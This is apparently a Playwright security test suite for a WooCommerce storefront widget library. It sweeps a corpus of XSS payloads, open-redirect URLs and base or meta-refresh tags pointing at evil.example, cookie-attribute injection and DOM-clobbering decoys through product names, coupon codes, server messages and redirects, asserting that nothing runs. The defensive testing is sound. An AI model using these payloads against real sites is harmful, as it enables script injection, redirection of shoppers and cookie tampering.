import type { BrowserContext, Page, TestInfo } from '@playwright/test';
import { attributed, expect, test, widgetsReady } from './fixtures.ts';
import { PAYMENT, answered, expressButton, expressSettings, installWalletFakes } from './express-support.ts';
import { hashAction, withoutDemoPopups } from './popups-support.ts';
import { SHOP_ICON } from '../server/pages/parts/shop-icon.ts';

/**
 * The campaign parameters sourcebuster reads (GA4's utm_* set), as a landing link would carry them: the journey's own
 * list, from the spec, not the widget's (classify.ts), so a parameter the widget forgot still gets swept.
 */
const CAMPAIGN_PARAMETERS = [
  'utm_source',
  'utm_medium',
  'utm_campaign',
  'utm_content',
  'utm_term',
  'utm_id',
  'utm_source_platform',
  'utm_creative_format',
  'utm_marketing_tactic',
];

/**
 * The attack sweep (docs/security.md): a corpus of hostile strings sent through every place outside data
 * reaches the page. Each payload calls `window.__pwned(id)` if it ever runs; a sentinel records the calls. After
 * every step: nothing ran (in any frame), no markup of a payload became an element or a live attribute, no
 * navigation left the origin, and every cookie keeps a known name, the site's domain and its path. The shopper sees
 * the payload as text where the widget shows it.
 *
 * Every sink runs with CSP bypassed, where only Vitrine's own handling stands between a payload and the page; the
 * sinks reaching Vitrine's own rendering run again under the demo's strict CSP with Trusted Types, where the shared
 * fixture fails a journey on any violation (MODES below). Steps are batched (many payloads per page load, in-page
 * loops, same-origin frames, three cookie jars at once) to stay fast. Counts of payload × sink tries are printed and
 * attached to each journey; docs/security.md has the tables.
 */

const pwn = (id: number) => `__pwned(${id})`;

/** The corpus. Each entry's `id` is what its code would pass to the sentinel. */
const CORPUS: Array<{ id: number; name: string; text: string }> = [
  ['script tag', (k: number) => `<script>${pwn(k)}</script>`],
  ['onerror image', (k: number) => `<img src=x onerror=${pwn(k)}>`],
  ['svg onload', (k: number) => `<svg/onload=${pwn(k)}>`],
  ['double-quote breaker', (k: number) => `"><img src=x onerror=${pwn(k)} x="`],
  ['single-quote breaker', (k: number) => `'><svg onload=${pwn(k)} x='`],
  ['every breaker', (k: number) => `"'\`><</textarea></title></style></script><img src=x onerror=${pwn(k)}>`],
  ['javascript: URL', (k: number) => `javascript:${pwn(k)}`],
  ['hidden javascript: URL', (k: number) => ` \tJaVa\nScRiPt:${pwn(k)}`],
  ['link markup', (k: number) => `<a class="fk-attack-markup" href="javascript:${pwn(k)}">lien</a>`],
  ['harmless markup', () => `<i class="fk-attack-markup">gras</i><b>!</b>`],
  ['srcdoc frame', (k: number) => `<iframe srcdoc="<script>parent.${pwn(k)}</script>"></iframe>`],
  ['mutation XSS', (k: number) => `<math><mtext><table><mglyph><style><img src=x onerror=${pwn(k)}>`],
  ['template syntax', (k: number) => `{{constructor.constructor('${pwn(k)}')()}} \${${pwn(k)}} <%= ${pwn(k)} %>`],
  ['separators', () => `a|||b;c=d; path=/; domain=evil.example; Secure|||`],
  ['JSON breaker', (k: number) => `"}],"x":{"y":"</script><img src=x onerror=${pwn(k)}>`],
  ['HTML entities', (k: number) => `&lt;img src=x onerror=${pwn(k)}&gt; &#x3C;script&#x3E;${pwn(k)}&#x3C;/script&#x3E;`],
  ['percent-encoded markup', (k: number) => `%3Cimg%20src%3Dx%20onerror%3D${pwn(k)}%3E%22%27`],
  ['malformed percent-encoding', () => `%E0%A4%A %ZZ % %C0%AE%C0%AE %ED%A0%80 %00`],
  ['NUL and controls', () => `a\u0000b\u0001c\u001bd\u007f`],
  ['malformed UTF-16', () => `x\uD800y\uDC00z \uFFFE \u202Eevil\u202C`],
  ['full-width markup', (k: number) => `＜script＞${pwn(k)}＜/script＞`],
  ['CSS url', (k: number) => `url(javascript:${pwn(k)}); background:url(//evil.example/x)`],
  ['prototype keys', () => `__proto__`],
  ['overlong', (k: number) => `${'Très long '.repeat(600)}<img src=x onerror=${pwn(k)}>`],
].map(([name, make], i) => ({ id: i + 1, name: name as string, text: (make as (k: number) => string)(i + 1) }));

/** Lone surrogates have no UTF-8: they go into URLs as the malformed sequence a surrogate would be (ED A0 80). */
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;
const encode = (s: string): string => encodeURIComponent(s.replace(LONE_SURROGATE, '\uE000')).replace(/%EE%80%80/g, '%ED%A0%80');

/** Where a shopper could be sent: every one of these must be refused (none is an http(s) URL of this site). */
const REDIRECTS = [
  `javascript:${pwn(901)}`,
  ` javascript:${pwn(902)}`,
  `JaVaScRiPt:${pwn(903)}`,
  `java\tscript:${pwn(904)}`,
  `data:text/html,<script>${pwn(905)}</script>`,
  `vbscript:${pwn(906)}`,
  'https://evil.example/merci',
  '//evil.example/merci',
  '/\\evil.example/merci',
  '\\\\evil.example\\merci',
  'https:evil.example',
  'http://evil.example@evil.example/',
  'https://localhost.evil.example/',
  'ftp://localhost/merci',
  'http://%E0%A4%A/',
];

/** Cookie names Vitrine and the demo may set (a payload must never add one, nor split one into two). */
const KNOWN_COOKIE =
  /^(vitrine_session|woocommerce_cart_hash|woocommerce_items_in_cart|fkcart_cart_qty|fkcart_cart_total|store_notice[^\s;=,]*|sbjs_(current|current_add|first|first_add|udata|session|migrations)|wffn_[a-z_]+|pll_language|wp_woocommerce_session_[^\s;=,]*)$/;

interface Tally {
  [sink: string]: number;
}

/** The sentinel, the in-page inspection and a guard against leaving the origin. */
async function arm(page: Page): Promise<{ left: string[]; tally: Tally }> {
  await page.addInitScript((shopIcon) => {
    const w = window as unknown as { __pwnedCalls: string[]; __pwned: (id: unknown) => void; __inspect: () => string[] };
    w.__pwnedCalls = [];
    w.__pwned = (id) => void w.__pwnedCalls.push(String(id));
    const liveUrl = /^(javascript|data|vbscript):/i;
    const urlAttributes = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background']);
    /** What a payload's markup would leave behind if it had become DOM. */
    w.__inspect = () => {
      const found: string[] = [...w.__pwnedCalls.map((id) => `ran: payload ${id}`)];
      const visit = (root: Document | ShadowRoot) => {
        for (const el of Array.from(root.querySelectorAll('*'))) {
          if (el.shadowRoot) visit(el.shadowRoot);
          if (el.matches('.fk-attack-markup, img[src="x"], iframe[srcdoc], mglyph')) found.push(`markup: <${el.localName} ${el.getAttribute('class') ?? ''}>`);
          if (el.localName === 'script' && !/json/i.test(el.getAttribute('type') ?? '') && /__pwned/.test(el.textContent ?? '')) found.push('markup: <script>');
          for (const attr of Array.from(el.attributes)) {
            if (/^on/i.test(attr.name) && /__pwned/.test(attr.value)) found.push(`handler: <${el.localName} ${attr.name}>`);
            // The theme's own icon, a data URL the server prints in every page's head, is no payload's.
            const isShopIcon = el.matches('head > link[rel="icon"]') && attr.value === shopIcon;
            if (urlAttributes.has(attr.name) && liveUrl.test(attr.value.replace(/[\u0000-\u0020]/g, '')) && !isShopIcon)
              found.push(`url: <${el.localName} ${attr.name}="${attr.value.slice(0, 40)}">`);
          }
          if (el instanceof HTMLElement && /javascript:/i.test(el.style.cssText)) found.push(`style: <${el.localName} style>`);
        }
      };
      visit(document);
      return found;
    };
  }, SHOP_ICON);
  const left: string[] = [];
  const origin = new URL(test.info().project.use.baseURL ?? 'http://localhost').origin;
  await page.context().route(
    (url) => url.origin !== origin,
    (route) => {
      if (route.request().isNavigationRequest()) left.push(route.request().url());
      return route.abort();
    },
  );
  page.on('framenavigated', (frame) => {
    const url = frame.url();
    if (url !== 'about:blank' && !url.startsWith(origin) && !url.startsWith('chrome-error:')) left.push(url);
  });
  return { left, tally: {} };
}

/** Inspects every frame of the page; returns what was found. */
async function findings(page: Page): Promise<string[]> {
  const out: string[] = [];
  for (const frame of page.frames()) {
    const url = frame.url();
    if (url === 'about:blank' || url.startsWith('chrome-error:')) continue;
    try {
      out.push(
        ...(await frame.evaluate(() => (window as unknown as { __inspect?: () => string[] }).__inspect?.() ?? [])).map((f) => `${new URL(url).pathname}: ${f}`),
      );
    } catch (error) {
      // A frame that navigated away meanwhile has nothing left to inspect.
      if (!/detached|destroyed|navigat/i.test(String(error))) throw error;
    }
  }
  return out;
}

/** Every cookie has a known name, this host as its domain and `/` as its path: no payload added an attribute. */
async function cookieShapes(context: BrowserContext, page: Page): Promise<string[]> {
  const bad: string[] = [];
  for (const c of await context.cookies()) {
    if (!KNOWN_COOKIE.test(c.name)) bad.push(`unknown cookie ${c.name}`);
    if (c.domain.replace(/^\./, '') !== 'localhost') bad.push(`cookie ${c.name} on ${c.domain}`);
    if (c.path !== '/') bad.push(`cookie ${c.name} on path ${c.path}`);
  }
  const names = await page.evaluate(() =>
    document.cookie
      .split(/;\s*/)
      .filter(Boolean)
      .map((pair) => pair.split('=')[0] ?? ''),
  );
  for (const name of names) if (!KNOWN_COOKIE.test(name)) bad.push(`document.cookie has ${name}`);
  return bad;
}

async function expectClean(page: Page, left: string[], step: string) {
  expect(await findings(page), `${step}: payload traces`).toEqual([]);
  expect(await cookieShapes(page.context(), page), `${step}: cookies`).toEqual([]);
  expect(left, `${step}: navigations off the origin`).toEqual([]);
}

function count(tally: Tally, sink: string, n: number) {
  tally[sink] = (tally[sink] ?? 0) + n;
}

async function report(testInfo: TestInfo, tally: Tally) {
  const total = Object.values(tally).reduce((a, b) => a + b, 0);
  const lines = Object.entries(tally).map(([sink, n]) => `${String(n).padStart(5)}  ${sink}`);
  console.log(`[attack-sweep] ${testInfo.titlePath.slice(-2).join(' › ')}: ${total} payload × sink tries\n${lines.join('\n')}`);
  await testInfo.attach('attacks', { body: JSON.stringify({ total, tally }, null, 2), contentType: 'application/json' });
}

/** The seeded catalogue's ids (demo/README.md). */
const SIMPLE_IN_STOCK = [11, 12, 13, 14, 15, 17, 18, 19, 20];
const ALL_PRODUCTS = [11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25];
const TERMS = ['pa_taille:s', 'pa_taille:m', 'pa_taille:l', 'pa_taille:xl', 'pa_couleur:gris', 'pa_couleur:bleu', 'pa_couleur:noir', 'pa_couleur:vert'];
const CATEGORIES = [1, 2, 3, 4];

async function addToCart(page: Page, form: Record<string, string | number>) {
  const res = await page.request.post('/?wc-ajax=add_to_cart', { form });
  expect(res.ok()).toBe(true);
}

/**
 * Every sink runs with CSP bypassed: what a theme without a CSP gets, where only Vitrine's handling keeps a payload
 * inert and the sentinel is the judge. The sinks that reach Vitrine's own rendering run again under the demo's
 * strict policy, where any payload reaching a live sink would be a CSP or Trusted Types violation (the shared
 * fixture fails the journey on one). The whole journey suite runs under that policy too.
 */
const MODES = [
  { title: 'attack sweep (CSP bypassed: Vitrine alone)', bypassCSP: true, only: null },
  { title: 'attack sweep (under the strict CSP)', bypassCSP: false, only: new Set(['names', 'messages', 'hash links', 'attributes', 'page content']) },
];

for (const mode of MODES) {
  test.describe(mode.title, () => {
    test.use({ bypassCSP: mode.bypassCSP });
    test.describe.configure({ timeout: 120_000 });
    const runs = (sink: string) => !mode.only || mode.only.has(sink);

    if (runs('names'))
      test('product, variation and category names, everywhere they are shown', async ({ page, store }, testInfo) => {
        const { left, tally } = await arm(page);
        await withoutDemoPopups(page);
        await page.goto('/?vitrine=off');
        // Two rounds, so every payload is a product name once and most are also a term or category name.
        for (const round of [0, 1]) {
          const pick = (i: number) => CORPUS[(i + round * ALL_PRODUCTS.length) % CORPUS.length]!;
          const products = Object.fromEntries(ALL_PRODUCTS.map((id, i) => [id, pick(i).text]));
          const terms = Object.fromEntries(TERMS.map((key, i) => [key, pick(i + 3).text]));
          const categories = Object.fromEntries(CATEGORIES.map((id, i) => [id, pick(i + 7).text]));
          expect((await page.request.post('/__test/names', { data: { products, terms, categories } })).ok()).toBe(true);
          for (const id of SIMPLE_IN_STOCK.slice(round * 4, round * 4 + 5)) await addToCart(page, { product_id: id, quantity: id === 14 ? 2 : 1 });
          // A variation made for any couleur goes in as the product form posts it (WooCommerce's AJAX add cannot carry it).
          expect(
            (
              await page.request.post('/?vitrine=off', {
                form: { 'add-to-cart': 21, variation_id: 103, attribute_pa_taille: 'm', attribute_pa_couleur: 'bleu', quantity: 1 },
              })
            ).ok(),
          ).toBe(true);

          // The shop: listing, header count, mini cart, menu; then the drawer with its lines and upsells.
          await page.goto('/boutique/');
          await widgetsReady(page, ['fk-add-to-cart', 'fk-side-cart', 'fk-nav-menu', 'fk-mini-cart']);
          await page.locator('.fkcart-toggler').click();
          const drawer = page.getByRole('dialog', { name: /^Votre panier/ });
          await expect(drawer.locator('li.fkcart-item').first()).toBeVisible();
          // The lines show the hostile names as text (product 15 is in the cart in both rounds).
          await expect.poll(async () => (await drawer.locator('li.fkcart-item').allTextContents()).join('\n')).toContain(products[15]!);
          await expectClean(page, left, `names round ${round}: shop and drawer`);
          count(tally, 'product name: shop listing, header and mini cart, drawer lines and upsells', ALL_PRODUCTS.length);
          count(tally, 'category name: menu', CATEGORIES.length);
          await page.keyboard.press('Escape');

          // A variable product: the variation form's options (term names), a chosen variation, the gallery, view_item.
          await page.goto('/produit/t-shirt-leman/');
          await widgetsReady(page, ['fk-variation-form', 'fk-product-gallery']);
          const form = page.locator('form.variations_form');
          await form.locator('select').first().selectOption({ index: 2 });
          await form.locator('select').nth(1).selectOption({ index: 1 });
          await page.waitForTimeout(300);
          await expectClean(page, left, `names round ${round}: variable product`);
          count(tally, 'variation term name: variation form, product page', TERMS.length);

          // Filters (category names as filter buttons) and a refreshed listing; the cart page and the checkout.
          await page.goto('/selection/');
          await widgetsReady(page, ['fk-loop-filter', 'fk-loop-grid']);
          const refreshed = page.waitForResponse((r) => r.url().includes('refresh-loop'));
          await page.locator('fk-loop-filter').first().getByRole('button').nth(1).click();
          await refreshed;
          await page.waitForTimeout(200);
          await expectClean(page, left, `names round ${round}: filters and listing`);
          count(tally, 'category name: loop filter buttons; product name: refreshed listing', CATEGORIES.length + ALL_PRODUCTS.length);

          for (const path of ['/?page_id=7', '/checkout/']) {
            await page.goto(path);
            await widgetsReady(page, ['fk-side-cart', 'fk-notices']);
            await expectClean(page, left, `names round ${round}: ${path}`);
          }
          const lines = (await store.cart()).items.length;
          expect(lines).toBeGreaterThan(0);
          count(tally, 'product and term names: cart page and checkout review (per line, per page)', lines * 2);
        }
        await page.request.post('/__test/names', { data: {} });
        await report(testInfo, tally);
      });

    if (runs('messages'))
      test('server messages (msg, messages), coupon codes and notices', async ({ page, cspViolations }, testInfo) => {
        const { left, tally } = await arm(page);
        await page.goto('/?vitrine=off');
        await addToCart(page, { product_id: 15, quantity: 2 });

        // Coupon codes typed in the drawer: the shop answers « Le code promo « … » n’existe pas ! », shown as text.
        await page.goto('/boutique/');
        await widgetsReady(page, ['fk-side-cart']);
        await page.locator('.fkcart-toggler').click();
        const drawer = page.getByRole('dialog', { name: /^Votre panier/ });
        await drawer.getByRole('button', { name: 'Vous avez un code promo ?' }).click();
        const input = drawer.getByRole('textbox', { name: 'Code promo' });
        const error = drawer.locator('.fkcart-coupon-error');
        for (const p of CORPUS) {
          const answered = page.waitForResponse((r) => r.url().includes('fkcart_apply_coupon'));
          await input.fill(p.text);
          await input.press('Enter');
          await answered;
          await expect(error).toContainText('n’existe pas');
        }
        await expectClean(page, left, 'coupon codes in the drawer');
        count(tally, 'coupon code (drawer, the shop’s refusal)', CORPUS.length);

        // The shop's `msg` itself hostile (a refusal and a quantity change's answer), through the Store's wire.
        // A shop's words are read as WooCommerce prints them (markup, entities), as text: each refusal names its
        // payload, and what reaches the page is that text alone, no element of it.
        const messages = CORPUS.map((p) => `Refus ${p.id} : ${p.text}`);
        await page.route('**/?wc-ajax=fkcart_apply_coupon*', (route) => route.fulfill({ json: { code: 400, msg: messages.shift() ?? 'fin' } }));
        for (const p of CORPUS) {
          await input.fill('X');
          await input.press('Enter');
          await expect.poll(() => error.textContent(), p.name).toMatch(new RegExp(`^Refus ${p.id} :`));
          await expect(error.locator('*'), p.name).toHaveCount(0);
        }
        await page.unroute('**/?wc-ajax=fkcart_apply_coupon*');
        await page.route('**/?wc-ajax=fkcart_update_item*', (route) => route.fulfill({ json: { code: 400, msg: CORPUS.map((p) => p.text).join(' · ') } }));
        // The overlong refusal above fills the drawer's footer: the click goes to the button itself.
        await drawer
          .getByRole('button', { name: /^Augmenter la quantité/ })
          .first()
          .dispatchEvent('click');
        await expect(drawer.locator('.fkcart-notice')).toBeVisible();
        await expectClean(page, left, 'side cart msg');
        await page.unroute('**/?wc-ajax=fkcart_update_item*');
        count(tally, 'side cart msg: coupon refusal under the field', CORPUS.length);
        count(tally, 'side cart msg: notice banner', CORPUS.length);
        await page.keyboard.press('Escape');

        // The classic forms: coupon codes posted to the cart page and removed by link, then shown as the shop's notices.
        const cartPage = await (await page.request.get('/?page_id=7')).text();
        const cartNonce = /name="woocommerce-cart-nonce" value="([^"]+)"/.exec(cartPage)?.[1] ?? '';
        expect(cartNonce).not.toBe('');
        for (const p of CORPUS) {
          const res = await page.request.post('/?page_id=7', {
            form: { coupon_code: p.text, apply_coupon: 'Appliquer le code promo', 'woocommerce-cart-nonce': cartNonce },
            maxRedirects: 0,
          });
          expect(res.status()).toBeLessThan(400);
          await page.request.get(`/?remove_coupon=${encode(p.text)}`, { maxRedirects: 0 });
        }
        await page.goto('/?page_id=7');
        await widgetsReady(page, ['fk-notices']);
        await expect(page.locator('.woocommerce-notices-wrapper, fk-notices').first()).toContainText('n’existe pas');
        await expectClean(page, left, 'coupon notices on the cart page');
        count(tally, 'coupon code: cart page form → notice', CORPUS.length);
        count(tally, 'coupon code: remove_coupon link → notice', CORPUS.length);

        // Express checkout: the shop's `messages` (WooCommerce's notices markup) after a refused order: text only.
        await expressSettings(page, { demo_wallet: false });
        const heard = await installWalletFakes(page);
        const list = `<ul class="woocommerce-error" role="alert">${CORPUS.map((p) => `<li>${p.text}</li>`).join('')}</ul>`;
        await page.route('**/?wc-ajax=wc_stripe_create_order*', (route) =>
          route.fulfill({ json: { result: 'failure', messages: list, refresh: false, reload: false } }),
        );
        await page.goto('/produit/coffret-artisans-du-jura/');
        await expressButton(page).click();
        await answered(heard, 'show');
        await page.evaluate((payment) => (window as any).__stripe.pay(payment), PAYMENT);
        expect((await answered(heard, 'complete'))[0]).toBe('fail');
        // Spec §4.7: a refused order's messages go above the product form.
        await expect(page.locator('.woocommerce-NoticeGroup-checkout .woocommerce-error').first()).toBeVisible();
        await expectClean(page, left, 'express messages');
        if (!mode.bypassCSP) {
          // `messages` is markup by contract (WooCommerce's notices), read for its text in core's sink. Chrome checks
          // inline handlers as it parses, even into an inert template, so the policy reports the payloads' handlers
          // there (script-src-attr), and nothing else: nothing runs (the run with CSP bypassed proves it).
          const reports = cspViolations.splice(0);
          expect(reports.length).toBeGreaterThan(0);
          expect(reports.filter((r) => !/script-src-attr|inline event handler/.test(r))).toEqual([]);
        }
        count(tally, 'express messages (notices markup) → above the product form', CORPUS.length);
        await report(testInfo, tally);
      });

    if (runs('redirects'))
      test('redirect URLs: a refused add’s product_url and the express order’s redirect', async ({ page }, testInfo) => {
        const { left, tally } = await arm(page);
        // add_to_cart answering {error, product_url}: fk-add-to-cart goes there only when it is this site.
        const urls = [...REDIRECTS];
        await page.route('**/?wc-ajax=add_to_cart*', (route) => route.fulfill({ json: { error: true, product_url: urls.shift() ?? '/' } }));
        await page.goto('/boutique/');
        await widgetsReady(page, ['fk-add-to-cart']);
        const button = page.locator('a.ajax_add_to_cart[data-product_id="15"]');
        for (const url of REDIRECTS) {
          const sent = page.waitForRequest((r) => r.url().includes('wc-ajax=add_to_cart'));
          // Dispatched: the notice of the last refusal scrolls the page, and a pointer click would wait for it.
          await button.dispatchEvent('click');
          await sent;
          await expect(button).not.toHaveClass(/loading/);
          expect(new URL(page.url()).pathname, url).toBe('/boutique/');
        }
        await expectClean(page, left, 'product_url');
        count(tally, 'add_to_cart product_url', REDIRECTS.length);

        // The express order's `redirect`, and the return URL inside Stripe's confirmation hash.
        await expressSettings(page, { demo_wallet: false });
        const heard = await installWalletFakes(page);
        // One sheet per URL, a sample of the corpus: the decision itself is unit-tested (payments/confirm-redirect.test.ts).
        const redirects = [
          ...[0, 4, 6, 7, 8].map((i) => REDIRECTS[i]!),
          ...[6, 7, 8].map((i) => `#fkwcs-confirm-pi-pi_1_secret_2:${encode(REDIRECTS[i]!)}:1:fkwcs_stripe:0`),
        ];
        const queue = [...redirects];
        await page.route('**/?wc-ajax=wc_stripe_create_order*', (route) => route.fulfill({ json: { result: 'success', redirect: queue.shift() } }));
        await page.goto('/produit/coffret-artisans-du-jura/');
        for (let round = 1; round <= redirects.length; round++) {
          await expressButton(page).click();
          await answered(heard, 'show', round);
          await page.evaluate((payment) => (window as any).__stripe.pay(payment), PAYMENT);
          expect((await answered(heard, 'complete', round))[round - 1], redirects[round - 1]).toBe('fail');
        }
        await expect(page).toHaveURL(/\/produit\/coffret-artisans-du-jura\/$/);
        expect(heard.some((h) => h.kind === 'confirm')).toBe(false);
        await expectClean(page, left, 'express redirect');
        count(tally, 'express order redirect / confirmation return URL', redirects.length);

        // The card form's confirmation (spec §4.7 on the checkout): the same return URLs in the page's own address, the
        // first loaded with it, the next ones set as a hash (heard on hashchange). Refused, and taken out of the address.
        expect((await page.request.post('/?wc-ajax=add_to_cart', { form: { product_id: 11, quantity: 1 } })).ok()).toBe(true);
        const hashes = [6, 7, 8].map((i) => `#fkwcs-confirm-pi-pi_1_secret_2:${encode(REDIRECTS[i]!)}:1:fkwcs_stripe:0`);
        const logged = async () => ((await (await page.request.get('/__test/express/errors')).json()) as unknown[]).length;
        const before = await logged();
        for (const [round, hash] of hashes.entries()) {
          await page.goto(`/checkout/${hash}`);
          // Each refusal is logged (spec §7.4) and shown; the notice of the same words replaces the last one.
          await expect.poll(logged).toBe(before + round + 1);
          await expect(page.locator('fk-notices .woocommerce-error')).toContainText('La boutique a rencontré un problème avec votre demande.');
          await expect(page).toHaveURL((url) => url.pathname === '/checkout/' && url.hash === '');
        }
        expect(heard.some((h) => h.kind === 'confirm')).toBe(false);
        await expectClean(page, left, 'card form confirmation address');
        count(tally, 'card form confirmation return URL', hashes.length);
        await report(testInfo, tally);
      });

    if (runs('hardening'))
      test('first outside review: fragments, the banner route, cookie lengths and the store’s redirects', async ({ page }, testInfo) => {
        const { left, tally } = await arm(page);
        // Fragments the sink must clean: the whole corpus plus what loads or re-aims, in one add_to_cart answer.
        const loaders = [
          `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
          `<base href="https://evil.example/">`,
          `<link rel="stylesheet" href="https://evil.example/x.css">`,
          `<object data="https://evil.example/x"></object><embed src="https://evil.example/x">`,
          `<iframe class="fk-attack-frame" src="https://evil.example/"></iframe>`,
          `<a class="fk-attack-link" href="java&#x09;script:${pwn(950)}">a</a><a class="fk-attack-link" href="data:text/html,x">b</a>`,
          `<svg><a href="/"><set attributeName="href" to="javascript:${pwn(951)}"/><text>x</text></a></svg>`,
          `<script type="module">${pwn(952)}</script>`,
        ];
        // The loaders first: the corpus's mutation payload opens a <style> that would swallow what follows as text.
        const region = `<div class="widget_shopping_cart_content">${loaders.join('')}${CORPUS.map((p) => p.text).join('')}</div>`;
        await page.route('**/?wc-ajax=add_to_cart*', (route) =>
          route.fulfill({ json: { fragments: { 'div.widget_shopping_cart_content': region }, cart_hash: 'h' } }),
        );
        await page.goto('/boutique/');
        await widgetsReady(page, ['fk-add-to-cart']);
        await page.locator('a.ajax_add_to_cart[data-product_id="15"]').dispatchEvent('click');
        await expect(page.locator('.widget_shopping_cart_content .fk-attack-link').first()).toBeAttached();
        await page.waitForTimeout(300);
        expect(
          await page
            .locator('.widget_shopping_cart_content')
            .evaluateAll((regions) =>
              regions.flatMap((r) =>
                [
                  ...r.querySelectorAll('meta, base, link, object, embed, iframe, set, script:not([type="application/json"]), [href^="java"], [href^="data:"]'),
                ].map((e) => e.outerHTML.slice(0, 60)),
              ),
            ),
        ).toEqual([]);
        // Fragments are server markup by the spec: harmless elements of a payload (<i>, <img src=x> without its handler)
        // stay elements; nothing may run, carry a handler or a live URL.
        expect(
          (await findings(page)).filter((f) => !/: markup: <(img|a|i|mglyph) /.test(f)),
          'fragments: payload traces',
        ).toEqual([]);
        expect(await cookieShapes(page.context(), page), 'fragments: cookies').toEqual([]);
        expect(left, 'fragments: navigations off the origin').toEqual([]);
        count(tally, 'fragments (add_to_cart answer)', CORPUS.length + loaders.length);
        await page.unroute('**/?wc-ajax=add_to_cart*');

        // The banner's REST URL aimed at another route: the nonce still goes to users/me only, form-encoded.
        await page.goto('/');
        await widgetsReady(page, ['fk-coming-soon']);
        const dismiss = page.locator('.coming-soon-footer-banner-dismiss');
        await dismiss.evaluate((a) => a.setAttribute('data-rest-url', '/wp-json/wp/v2/users/2?_method=DELETE&force=true'));
        const sent = page.waitForRequest((r) => r.url().includes('/wp-json/'));
        await dismiss.click();
        const request = await sent;
        expect(new URL(request.url()).pathname + new URL(request.url()).search).toBe('/wp-json/wp/v2/users/me');
        expect(request.postData()).toBe('woocommerce_meta%5Bcoming_soon_banner_dismissed%5D=yes');
        count(tally, 'banner REST URL', 1);

        // A link with 600-character campaign values, click ids and path: the attribution cookies stay within 3 KB and
        // the next request is still answered.
        const long = (c: string) => encode(c.repeat(600));
        const params = [...CAMPAIGN_PARAMETERS, 'gclid', 'fbclid'];
        // Mostly ASCII, one accented and one markup value: the address stays under the server's 16 KB of headers.
        await page.goto(`/boutique/?${params.map((p, i) => `${p}=${long(i === 1 ? 'é' : i === 2 ? '<' : 'a')}`).join('&')}&x=${long('b')}`);
        await attributed(page);
        const bytes = await page.evaluate(
          () =>
            document.cookie
              .split('; ')
              .filter((c) => /^(sbjs|wffn)_/.test(c))
              .join('; ').length,
        );
        expect(bytes).toBeGreaterThan(0);
        expect(bytes).toBeLessThanOrEqual(3 * 1024);
        expect((await page.goto('/checkout/'))?.status()).toBe(200);
        await expectClean(page, left, 'cookie lengths');
        count(tally, 'hostile cookie lengths (11 parameters × 600 characters)', params.length);

        // The store's own redirects: a request line starting with `//` or `/\` comes back to a path of this site.
        const { hostname, port } = new URL(test.info().project.use.baseURL ?? 'http://localhost');
        const { request: raw } = await import('node:http');
        for (const path of ['//evil.example/', '///evil.example', '/\\evil.example/', '//evil.example//x/']) {
          const answer = await new Promise<{ status: number; location: string }>((resolve, reject) =>
            raw({ hostname, port, path: `${path}?add-to-cart=15` }, (res) => {
              res.resume();
              resolve({ status: res.statusCode ?? 0, location: res.headers.location ?? '' });
            })
              .on('error', reject)
              .end(),
          );
          // Node refuses a request line with a backslash (400) before the store sees it; any redirect stays on the site.
          if (answer.status === 303) expect(answer.location, path).toMatch(/^\/[^/\\]/);
          else expect(answer.status, path).toBe(400);
        }
        count(tally, 'store redirects (request lines with // and /\\)', 4);
        await report(testInfo, tally);
      });

    if (runs('page content'))
      test('clobbered DOM APIs and ids in page content (a post, a page builder block)', async ({ page }, testInfo) => {
        const { left, tally } = await arm(page);
        const origin = new URL(testInfo.project.use.baseURL ?? 'http://localhost').origin;
        const elsewhere: string[] = [];
        page.on('request', (request) => {
          if (!request.url().startsWith(origin) && !request.url().startsWith('data:')) elsewhere.push(request.url());
        });
        // Markup a shop manager or a page builder puts in a page: elements whose names shadow what the loader and
        // core look up on `document` (Document's named properties win over its built-ins), and elements taking the
        // ids of Vitrine's own. They open the body; the loader moves to its end, as a theme printing it in the footer
        // has it, so every decoy comes before it.
        const decoys = [
          `<div id="vitrine-loader" data-base="https://evil.example/chunks/"></div>`,
          `<a id="vitrine-loader" data-base="//evil.example/"></a>`,
          `<script type="text/plain" id="vitrine-loader" data-base="https://evil.example/"></script>`,
          `<div id="vitrine-config">{"debug":true,"urls":{"checkout":"https://evil.example/"}}</div>`,
          `<div id="fk-cart-state">{"hash":"x"}</div>`,
          `<div id="vitrine-live-polite"></div><div id="vitrine-live-assertive"></div>`,
        ].join('');
        const clobber = (names: string[]) => names.map((name) => `<form name="${name}"></form><img name="${name}" alt="">`).join('');
        // What Vitrine's code looks up by name on `document`, and the loader's own lookups.
        const ALL_WIDGETS = ['getElementById'];
        const LOADER_ONLY = ['querySelector', 'querySelectorAll', 'head', 'documentElement', 'readyState', 'visibilityState', 'currentScript'];
        let content = '';
        await page.route(
          (url) =>
            url.origin === origin && !url.pathname.startsWith('/vitrine/') && !url.pathname.startsWith('/assets/') && !url.pathname.startsWith('/__test'),
          async (route) => {
            const response = await route.fetch();
            const body = await response.text();
            const type = response.headers()['content-type'] ?? '';
            if (!/text\/html/.test(type)) return route.fulfill({ response, body });
            const loader = /<script type="module" id="vitrine-loader"[^>]*>[\s\S]*?<\/script>/.exec(body)?.[0] ?? '';
            expect(loader).not.toBe('');
            const moved = body
              .replace(loader, '')
              .replace(/<body[^>]*>/, (tag) => `${tag}${content}`)
              .replace('</body>', `${loader}</body>`);
            await route.fulfill({ response, body: moved });
          },
        );
        const pages: Array<[string, string[]]> = [
          ['/boutique/', ['fk-add-to-cart', 'fk-nav-menu', 'fk-mini-cart', 'fk-side-cart', 'fk-attribution']],
          ['/produit/t-shirt-leman/', ['fk-variation-form', 'fk-product-gallery', 'fk-nav-menu']],
          ['/selection/', ['fk-hash-actions', 'fk-loop-filter', 'fk-loop-grid', 'fk-popup']],
        ];
        for (const [path, widgets] of pages) {
          content = `${decoys}${clobber(ALL_WIDGETS)}`;
          await page.goto(path);
          await widgetsReady(page, widgets);
          // The decoys are left as they were: nothing was read from them or written into them.
          expect(await page.locator('div#vitrine-loader').getAttribute('data-base')).toBe('https://evil.example/chunks/');
          expect(await page.locator('div#vitrine-live-polite').textContent()).toBe('');
          count(tally, 'page content: ids of Vitrine’s elements (loader, config, snapshot, live regions) and getElementById', 1);

          // The loader's own lookups shadowed too: it still finds its chunks under its own base.
          content = `${decoys}${clobber([...ALL_WIDGETS, ...LOADER_ONLY])}`;
          const chunk = page.waitForRequest((r) => new URL(r.url()).pathname.startsWith('/vitrine/chunks/'));
